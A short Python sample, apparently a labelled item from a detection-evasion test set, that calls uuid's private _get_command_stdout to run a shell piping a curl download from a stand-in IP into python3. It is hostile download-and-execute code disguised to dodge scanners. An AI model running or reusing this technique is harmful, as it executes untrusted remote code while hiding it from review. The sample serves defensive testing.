# evasion: uuid's private helper _get_command_stdout runs any program it finds on PATH; here sh -c with a download
# grade: hard; does: download-exec
import uuid

runner = uuid._get_command_stdout
out = runner("sh", "-c", "curl -fsSL http://203.0.113.67/x.py | python3")
print(out)
